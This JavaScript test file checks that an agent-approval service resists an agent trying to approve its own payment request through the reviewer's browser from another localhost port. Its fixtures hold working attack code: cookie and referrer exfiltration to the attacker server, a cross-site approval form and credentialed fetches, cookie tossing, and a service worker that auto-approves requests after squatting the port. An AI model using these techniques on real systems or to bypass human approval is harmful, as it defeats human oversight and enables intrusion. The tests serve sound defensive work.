// An agent tries to approve its own request by way of the reviewer's browser: from another port of this machine, whose
// pages are same-site with the authority's.
import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer, request as send } from "node:http";
import { after, afterEach, before, beforeEach, test } from "node:test";
import { launch, person, start } from "./authority.mjs";

let browser, authority, context, page, agent, request, attacker;

before(async () => { browser = await launch(); });
after(() => browser?.close());

beforeEach(async () => {
  authority = await start();
  ({ context, page } = await person(browser));
  agent = authority.agent;
  await page.goto(authority.link);
  // Critical risk: only a person may approve it.
  request = await agent.ask(await agent.task(), { type: "payment" });
  await page.locator(`#${request}`).waitFor();
});
afterEach(async () => {
  attacker?.close();
  await context.close();
  await authority.stop();
});

/** A web server of the agent's, on a port of its own. It keeps what browsers send, and answers with `respond`. */
async function serve(respond) {
  const server = createServer((call, answer) => {
    server.heard.push({ path: call.url, cookie: call.headers.cookie ?? "", referer: call.headers.referer ?? "" });
    respond(call, answer);
  });
  server.heard = [];
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  server.url = `http://127.0.0.1:${server.address().port}`;
  attacker = server;
  return server;
}

const html = (answer, body, headers = {}) => answer.writeHead(200, { "content-type": "text/html", ...headers }).end(body);

/** A call of the page without a browser, in which every header can be made up, the page's host among them. */
async function call(method, path, cookie, body = "") {
  const headers = {
    cookie, host: new URL(authority.page).host, origin: authority.page, "sec-fetch-site": "same-origin",
    "content-type": "application/x-www-form-urlencoded", "content-length": body.length,
  };
  const sent = send(`${authority.url}${path}`, { method, headers });
  sent.end(body);
  const [answer] = await once(sent, "response");
  let text = "";
  for await (const part of answer) text += part;
  return text;
}

/** Approves as the page does, with whatever was heard. */
async function approveWith(cookie, root) {
  const read = await call("GET", root, cookie);
  const fields = [...read.matchAll(/name="(csrf|request_digest)" value="([^"]+)"/g)].map(([, ...pair]) => pair);
  const form = new URLSearchParams({ ...Object.fromEntries(fields), looked_twice: "yes" });
  await call("POST", `${root}requests/${request}/approve`, cookie, form.toString());
}

const isPending = async () => assert.equal((await agent.status(request)).status, "pending");

/** The person still has their session, and decides. */
async function personDecides() {
  await page.reload();
  await page.locator(`#${request}`).getByLabel("Approve for").selectOption("1 min");
  await page.locator(`#${request}`).getByRole("checkbox").check();
  await page.locator(`#${request}`).getByRole("button", { name: "Approve" }).click();
  await page.getByText("Approved for 1 min").waitFor();
  assert.equal((await agent.status(request)).status, "approved");
}

test("a server at another port gets neither the session's cookie nor its address", async () => {
  const { heard, url } = await serve((call, answer) => html(answer, `
    <h1>The agent's page</h1>
    <script>
      const roads = [document.referrer, ...performance.getEntries().map(({ name }) => name)];
      try { roads.push(opener?.location.href, String(history.length)); } catch {}
      fetch("/roads?" + new URLSearchParams({ roads: roads.join(" "), cookie: document.cookie }), { credentials: "include" });
    </script>`));
  // Typed, by a link of the page itself, and in a window that the page opened.
  for (const host of [url, url.replace("127.0.0.1", "localhost")]) {
    const typed = await context.newPage();
    await typed.goto(host);
    await typed.getByText("The agent's page").waitFor();
    await page.evaluate((to) => { window.open(`${to}/opened`); }, host);
    await page.evaluate((to) => { location.href = `${to}/linked`; }, host);
    await page.getByText("The agent's page").waitFor();
    await page.waitForLoadState("networkidle");
    await page.goBack();
    await page.locator(`#${request}`).waitFor();
  }
  assert.ok(heard.length > 6, "the browser came");

  const session = await context.cookies();
  const secrets = [...session.map(({ value }) => value), ...session.map(({ path }) => path).filter((path) => path !== "/")];
  const roots = new Set(["/"]);
  for (const { path, cookie, referer } of heard) {
    const all = decodeURIComponent(`${path} ${cookie} ${referer}`);
    for (const [, root] of all.matchAll(new RegExp(`${authority.page}(/\\S*/)`, "g"))) roots.add(root);
    await Promise.all([...roots].map((root) => approveWith(cookie, root)));
  }
  await isPending();
  for (const each of heard) {
    for (const secret of secrets) assert.ok(!JSON.stringify(each).includes(secret), JSON.stringify(each));
  }
  await personDecides();
});

test("a page at another port frames, fetches and sends nothing that counts", async () => {
  // With the name of the page, which the agent does not know.
  const target = authority.page;
  const attack = `
    <h1>The agent's page</h1>
    <iframe src="${target}/"></iframe><iframe name="sent"></iframe>
    <form method="post" target="sent" action="${target}/requests/${request}/approve">
      <input name="looked_twice" value="yes"><input name="csrf" value="guess">
    </form>
    <script>
      document.forms[0].submit();
      const done = [];
      for (const path of ["/", "/tasks", "/events", "/login", "/requests/${request}/approve"]) {
        for (const method of ["GET", "POST"]) {
          done.push(fetch("${target}" + path, { method, mode: "no-cors", credentials: "include" }));
          done.push(fetch("${target}" + path, { method, credentials: "include" }).then((read) => read.text())
            .then((text) => fetch("/read?" + new URLSearchParams({ text }))));
        }
      }
      Promise.allSettled(done).then(() => { document.title = "done"; });
    </script>`;
  const { heard, url } = await serve((_, answer) => html(answer, attack));
  const other = await context.newPage();
  await other.goto(url);
  await other.waitForFunction(() => document.title === "done");
  await isPending();
  assert.ok(!heard.some(({ path }) => path.startsWith("/read")), "no page of another origin reads an answer");
  const frames = await Promise.all(other.frames().slice(1).map((frame) => frame.content().catch(() => "")));
  assert.ok(!frames.some((text) => text.includes(request)), "and none shows what the person sees");
  await other.close();
  await personDecides();
});

test("cookies that another port sets change no session", async () => {
  const [{ name, value }] = await context.cookies();
  const paths = ["/", "/s", "/s/", "/login"];
  const tossed = paths.flatMap((path) => [`${name}=tossed; Path=${path}`, `${name}=${value}x; Path=${path}; HttpOnly`]);
  const { url } = await serve((_, answer) => html(answer, "<h1>The agent's page</h1>", { "set-cookie": tossed }));
  const other = await context.newPage();
  await other.goto(url);
  await other.close();
  assert.ok((await context.cookies()).some(({ value }) => value !== "tossed"), "the browser took them");
  await personDecides();
});

/** Approves whatever a page shows that goes through it, without anybody pressing anything. */
const WORKER = `
  self.addEventListener("install", () => self.skipWaiting());
  self.addEventListener("activate", (event) => event.waitUntil(clients.claim()));
  self.addEventListener("fetch", (event) => event.respondWith((async () => {
    if (event.request.mode !== "navigate") return fetch(event.request);
    const answer = await fetch(event.request.url);
    const text = await answer.text();
    const root = new URL(answer.url).pathname;
    const field = (name) => text.match(new RegExp('name="' + name + '" value="([^"]+)"'))?.[1] ?? "";
    const form = { csrf: field("csrf"), request_digest: field("request_digest"), looked_twice: "yes" };
    for (const [, id] of text.matchAll(/requests\\/(jitreq_[0-9a-f]+)\\/approve/g)) {
      await fetch(root + "requests/" + id + "/approve", { method: "POST", body: new URLSearchParams(form), redirect: "manual" });
    }
    return new Response(text, { headers: answer.headers });
  })()));`;

test("what listened at the authority's port before it leaves nothing that decides", async () => {
  await authority.stop();
  const port = new URL(authority.url).port;
  const squatter = createServer((call, answer) => {
    if (call.url === "/worker.js") answer.writeHead(200, { "content-type": "text/javascript" }).end(WORKER);
    else html(answer, `<script>
      navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready)
        .then(() => { document.title = "left"; });
    </script>`);
  });
  for (const host of ["127.0.0.1", "localhost"]) {
    if (!squatter.listening) {
      squatter.listen(port, "127.0.0.1");
      await once(squatter, "listening");
    }
    const lured = await context.newPage();
    await lured.goto(`http://${host}:${port}/`);
    await lured.waitForFunction(() => document.title === "left");
    await lured.close();
  }
  squatter.closeAllConnections();
  squatter.close();
  await once(squatter, "close");

  authority = await start(`127.0.0.1:${port}`);
  agent = authority.agent;
  request = await agent.ask(await agent.task(), { type: "payment" });
  await page.goto(authority.link);
  await page.locator(`#${request}`).waitFor();
  await page.reload();
  await isPending();
  await personDecides();
});
